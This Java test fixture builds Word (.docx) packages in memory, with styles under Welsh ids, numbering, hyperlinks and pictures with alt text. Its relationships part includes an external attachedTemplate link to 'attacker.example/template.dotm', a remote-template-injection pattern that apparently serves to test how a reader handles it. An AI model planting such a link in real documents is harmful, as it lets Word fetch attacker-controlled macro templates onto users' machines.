package despatch.article;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * A Word document built as Word writes one: the package's content types and relationships, the
 * styles with their built-in names under ids of any language, numbering definitions, and a
 * document body given as WordprocessingML. For tests of what the reader makes of such parts.
 */
final class Docx {
    static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private final Map<String, String> parts = new LinkedHashMap<>();
    private final Map<String, byte[]> media = new LinkedHashMap<>();
    private final StringBuilder pictureRelationships = new StringBuilder();

    Docx(String bodyXml) {
        parts.put("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
        parts.put("_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
        parts.put("word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + R
                + "\"><w:body>" + bodyXml + "<w:sectPr/></w:body></w:document>");
        // Ids as a Welsh-language Word might name them; the names are the built-in ones, in English, as OOXML stores them.
        parts.put("word/styles.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:styles xmlns:w=\"" + W + "\">"
                + "<w:style w:type=\"paragraph\" w:styleId=\"Teitl\"><w:name w:val=\"Title\"/></w:style>"
                + "<w:style w:type=\"paragraph\" w:styleId=\"Pennawd1\"><w:name w:val=\"heading 1\"/></w:style>"
                + "<w:style w:type=\"paragraph\" w:styleId=\"Pennawd2\"><w:name w:val=\"heading 2\"/></w:style>"
                + "<w:style w:type=\"paragraph\" w:styleId=\"Dyfyniad\"><w:name w:val=\"Quote\"/></w:style></w:styles>");
        parts.put("word/numbering.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:numbering xmlns:w=\"" + W + "\">"
                + "<w:abstractNum w:abstractNumId=\"0\"><w:lvl w:ilvl=\"0\"><w:numFmt w:val=\"bullet\"/></w:lvl><w:lvl w:ilvl=\"1\"><w:numFmt w:val=\"bullet\"/></w:lvl></w:abstractNum>"
                + "<w:abstractNum w:abstractNumId=\"1\"><w:lvl w:ilvl=\"0\"><w:numFmt w:val=\"decimal\"/></w:lvl></w:abstractNum>"
                + "<w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num><w:num w:numId=\"2\"><w:abstractNumId w:val=\"1\"/></w:num></w:numbering>");
        parts.put("word/_rels/document.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdLink\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.example.gov.uk/bus?route=42&amp;day=mon\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rIdRemote\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attacker.example/template.dotm\" TargetMode=\"External\"/>"
                + "</Relationships>");
    }

    /** A picture stored in the document, as word/media/{@code name}, under relationship {@code id}. */
    Docx withPicture(String id, String name, byte[] bytes) {
        media.put("word/media/" + name, bytes);
        pictureRelationships.append("<Relationship Id=\"").append(id).append("\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/image\" Target=\"media/").append(name).append("\"/>");
        return this;
    }

    /** A run holding a picture inline, as Word writes one: wp:docPr carries the alt text, or the decorative mark. */
    static String picture(String id, String descr, boolean decorative) {
        String docPr = "<wp:docPr id=\"1\" name=\"Picture 1\"" + (descr == null ? "" : " descr=\"" + descr + "\"") + ">"
                + (decorative ? "<a:extLst><a:ext uri=\"{C183D7F6-B498-43B3-948B-1728B52AA6E4}\"><adec:decorative "
                + "xmlns:adec=\"http://schemas.microsoft.com/office/drawing/2017/decorative\" val=\"1\"/></a:ext></a:extLst>" : "")
                + "</wp:docPr>";
        return "<w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" "
                + "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><wp:extent cx=\"5486400\" cy=\"3657600\"/>" + docPr
                + "<a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic "
                + "xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:blipFill><a:blip r:embed=\"" + id
                + "\"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
    }

    Docx with(String part, String content) {
        parts.put(part, content);
        return this;
    }

    byte[] bytes() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                String content = part.getValue();
                if (part.getKey().equals("word/_rels/document.xml.rels")) {
                    content = content.replace("</Relationships>", pictureRelationships + "</Relationships>");
                }
                zip.write(content.getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            for (Map.Entry<String, byte[]> part : media.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static String p(String style, String runs) {
        return "<w:p>" + (style == null ? "" : "<w:pPr><w:pStyle w:val=\"" + style + "\"/></w:pPr>") + runs + "</w:p>";
    }

    static String r(String text) {
        return "<w:r><w:t xml:space=\"preserve\">" + text + "</w:t></w:r>";
    }

    static String r(String properties, String text) {
        return "<w:r><w:rPr>" + properties + "</w:rPr><w:t xml:space=\"preserve\">" + text + "</w:t></w:r>";
    }

    static String li(int numId, int level, String runs) {
        return "<w:p><w:pPr><w:numPr><w:ilvl w:val=\"" + level + "\"/><w:numId w:val=\"" + numId + "\"/></w:numPr></w:pPr>" + runs + "</w:p>";
    }
}
